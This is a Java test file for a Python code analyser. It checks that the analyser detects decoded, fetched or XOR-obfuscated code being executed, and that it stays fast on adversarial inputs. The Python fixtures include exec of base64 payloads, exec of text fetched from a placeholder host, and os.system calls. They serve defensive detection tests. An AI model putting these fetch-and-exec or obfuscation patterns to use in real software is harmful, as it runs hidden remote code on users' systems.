package cordon.inspect.python;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import cordon.inspect.fact.Behaviour;
import cordon.inspect.fact.FileFacts;
import java.time.Duration;
import java.util.Collections;
import org.junit.jupiter.api.Test;

/** What is cut short for want of time is doubted, so that nobody hides behind busy work. */
class PythonBoundsTest {
  /** More rounds within rounds than are followed. */
  private static final String BUSY =
      """
      def work(n):
          total = 0
          for i in range(1000):
              total = total + i * n
          return total
      for i in range(1000):
          work(i)
      """;

  /** The same without a function that is called again and again in vain. */
  private static final String ROUNDS =
      """
      total = 0
      for i in range(1000):
          for n in range(1000):
              total = total + i * n
      """;

  private static final String FLOW =
      """
      import base64
      def show(text):
          return base64.b64decode(text)
      exec(show(given))
      """;

  /** Of so much text that it is not held once there is no space. */
  private static final String LONG =
      "import base64\nexec(base64.b64decode('%s'))\n".formatted("cHJpbnQ".repeat(100));

  @Test
  void flowAfterBusyWorkIsDoubted() {
    FileFacts facts = PythonReaderTest.read(ROUNDS + FLOW);
    assertThat(facts.complete()).isFalse();
    assertThat(facts.doubts()).containsExactly(FactSink.UNSEEN);
  }

  @Test
  void busyWorkAloneIsNot() {
    assertThat(PythonReaderTest.read(BUSY).complete()).isTrue();
    assertThat(PythonReaderTest.read(ROUNDS).complete()).isTrue();
  }

  @Test
  void flowAfterCallsInVainIsSeen() {
    assertThat(PythonReaderTest.read(BUSY + FLOW).facts())
        .anyMatch(
            f -> f.behaviour() == Behaviour.RUN_CODE && f.inputs().contains(Behaviour.DECODE));
  }

  @Test
  void flowWithoutBusyWorkIsNot() {
    assertThat(PythonReaderTest.read(FLOW).complete()).isTrue();
  }

  @Test
  void whatDeepCallsDoIsSeen() {
    for (int deep : new int[] {5, 40, 400}) {
      FileFacts facts = PythonReaderTest.read(chain(deep));
      assertThat(facts.doubts()).isEmpty();
      assertThat(facts.facts())
          .anyMatch(
              f -> f.behaviour() == Behaviour.RUN_CODE && f.inputs().contains(Behaviour.FETCH));
    }
  }

  @Test
  void whatDeepCallsGiveIsDoubtedOnceItIsUsed() {
    StringBuilder code = new StringBuilder("def f0(text):\n    return text[1:]\n");
    for (int i = 1; i < 40; i++) {
      code.append("def f%d(text):\n    return f%d(text)\n".formatted(i, i - 1));
    }
    code.append("x = f39('aprint')\n");
    assertThat(PythonReaderTest.read(code.toString()).doubts()).isEmpty();
    assertThat(PythonReaderTest.read(code + "exec(x)\n").doubts()).containsExactly(FactSink.UNSEEN);
    assertThat(PythonReaderTest.read(code + "import os\ngetattr(os, x)('id')\n").doubts())
        .containsExactly(FactSink.UNSEEN);
  }

  /** A program that shows a spinner while it waits has no end to its list, and makes none. */
  @Test
  void whatGoesRoundWithoutEndIsNotHeld() {
    String spinner = "cycle = itertools.cycle(['-', '/', '|'])";
    String wait = "def wait(n):\n    %s\n    return next(cycle)\n".formatted(spinner);
    StringBuilder code = new StringBuilder("import itertools\n" + wait);
    for (int i = 0; i < 200; i++) {
      code.append("wait(%d)\n".formatted(i));
    }
    assertThat(PythonReaderTest.read(code + LONG).doubts()).isEmpty();
  }

  @Test
  void aKeyThatGoesRoundStillDecrypts() {
    String plain = "x = bytes(a ^ k for a, k in zip(%s, itertools.cycle(b'\\x01')))\n";
    String code = "import itertools\n" + plain.formatted("b\"hlqnsu!nr:nr/rxrudl)&he&(\"");
    assertThat(PythonReaderTest.read(code + "exec(x)\n").facts())
        .anyMatch(f -> f.behaviour() == Behaviour.RUN_PROCESS);
  }

  /** A large value that is made once and looked at often takes no more than one. */
  @Test
  void lookingAtWhatIsLargeHoldsNoMore() {
    String code = "x = 'a' * 500000\n" + "y = x\n".repeat(400);
    assertThat(PythonReaderTest.read(code + LONG).doubts()).isEmpty();
  }

  /** Each function calls the one below eight times: eight to the seventh calls, all alike. */
  @Test
  void callsThatAreAlikeAreEvaluatedOnce() {
    StringBuilder code = new StringBuilder("def f0(n):\n    return n + n\n");
    for (int i = 1; i < 8; i++) {
      String call = "f%d(n)".formatted(i - 1);
      code.append("def f%d(n):\n    return ".formatted(i));
      code.append(String.join(" + ", Collections.nCopies(8, call))).append('\n');
    }
    code.append("exec(f7(given))\n");
    assertThat(PythonReaderTest.read(code.toString()).doubts()).isEmpty();
  }

  /** What each of them gives grows with what it is given, so that none is like another. */
  @Test
  void flowsThroughRecursionAreFollowed() {
    String code =
        """
        import requests
        def down(text, n):
            if n > 3:
                exec(text)
            down(requests.get('https://files.example/x').text, n + 1)
        down('', 0)
        """;
    assertThat(PythonReaderTest.read(code).facts())
        .anyMatch(f -> f.behaviour() == Behaviour.RUN_CODE && f.inputs().contains(Behaviour.FETCH));
  }

  /** Text that is passed through so many functions before it is run. */
  private static String chain(int deep) {
    StringBuilder code = new StringBuilder("def f0(text):\n    exec(text)\n");
    for (int i = 1; i < deep; i++) {
      code.append("def f%d(text):\n    f%d(text)\n".formatted(i, i - 1));
    }
    code.append("import requests\n");
    code.append("f%d(requests.get('https://files.example/x').text)\n".formatted(deep - 1));
    return code.toString();
  }

  @Test
  void recursionIsNoDepth() {
    String code = "def down(text):\n    down(text)\n    exec(text)\ndown(given)\n";
    assertThat(PythonReaderTest.read(code).doubts()).isEmpty();
  }

  @Test
  void moreCodeInTextsThanIsReadIsDoubted() {
    assertThat(PythonReaderTest.read(texts(8)).doubts())
        .containsExactly("it holds more encoded code than is read");
    assertThat(PythonReaderTest.read(texts(2)).doubts()).isEmpty();
  }

  private static String texts(int count) {
    StringBuilder code = new StringBuilder();
    for (int i = 0; i < count; i++) {
      code.append("exec('#' * 1000000 + '%d')%n".formatted(i));
    }
    return code.toString();
  }

  @Test
  void textsWithTheSameHashAreEachRead() {
    assertThat("Aa".hashCode()).isEqualTo("BB".hashCode());
    FileFacts facts =
        PythonReaderTest.read(
            "exec('import os; Aa; os.system(\"id\")')\n"
                + "exec('import os; BB; os.system(\"id\")')\n");
    assertThat(facts.facts().stream().filter(f -> f.detail().equals("id"))).hasSize(2);
  }

  @Test
  void whatWasNotFollowedIsNoMatterInAListOrAFileUntilThatIsRun() {
    String busy = BUSY.replace("work(i)", "x = work(i)");
    String file =
        "import os\nseen.setdefault(x)\nwith open('/tmp/job.py', 'w') as f:\n    f.write(x)\n";
    assertThat(PythonReaderTest.read(busy + file).doubts()).isEmpty();
    assertThat(PythonReaderTest.read(busy + file + "os.system('python /tmp/job.py')\n").doubts())
        .containsExactly(FactSink.UNSEEN);
  }

  /** Work is in proportion to length, whatever is nested, called or doubled. */
  @Test
  void stepsAreLinearInBytes() {
    PythonReader reader =
        new PythonReader(cordon.inspect.rules.Rules.own(false).build().vocabulary());
    for (int size : new int[] {200, 2_000, 8_000}) {
      for (String code :
          java.util.List.of(
              "f(".repeat(size) + ")".repeat(size),
              "x = a" + ".b(1)".repeat(size),
              "x = [" + "1, ".repeat(size) + "]",
              "x = " + "'a' + ".repeat(size) + "'a'",
              "x = 'a'\n" + "x = x + x\n".repeat(size),
              "x = [0]\n" + "x = [x, x]\n".repeat(size),
              "x = [i for i in range(8000)]\n".repeat(size),
              calling(size),
              BUSY.repeat(size / 100))) {
        byte[] content = (code + "\n").getBytes(java.nio.charset.StandardCharsets.UTF_8);
        Session session = reader.session(content);
        reader.read(session, "pkg/mod.py", content);
        assertThat(session.steps())
            .as(code.substring(0, 20) + " " + size)
            .isLessThan(600_000 + 40L * content.length);
      }
    }
  }

  /** Each function calls the next three with what grows. */
  private static String calling(int count) {
    StringBuilder code = new StringBuilder("import os\n");
    for (int i = 0; i < count; i++) {
      code.append("def f%d(x):\n    os.system(x)\n".formatted(i));
      for (int j = 1; j < 4; j++) {
        code.append("    f%d(x + 'a')\n".formatted((i + j * j) % count));
      }
    }
    return code + "f0('a')\n";
  }

  /**
   * Of two letters each that have one hash where one hash is 31 times that before, plus a letter.
   */
  private static String alike(int number) {
    StringBuilder name = new StringBuilder();
    for (int bit = 0; bit < 17; bit++) {
      name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
    }
    return name.toString();
  }

  @Test
  void namesThatAreMadeToHaveOneHashCostNoMore() {
    StringBuilder code = new StringBuilder();
    for (int i = 0; i < 1 << 17; i++) {
      code.append(alike(i)).append("\n");
    }
    FileFacts facts =
        assertTimeoutPreemptively(
            Duration.ofSeconds(30), () -> PythonReaderTest.read(code.toString() + FLOW));
    assertThat(facts.facts()).anyMatch(f -> f.behaviour() == Behaviour.RUN_CODE);
  }
}
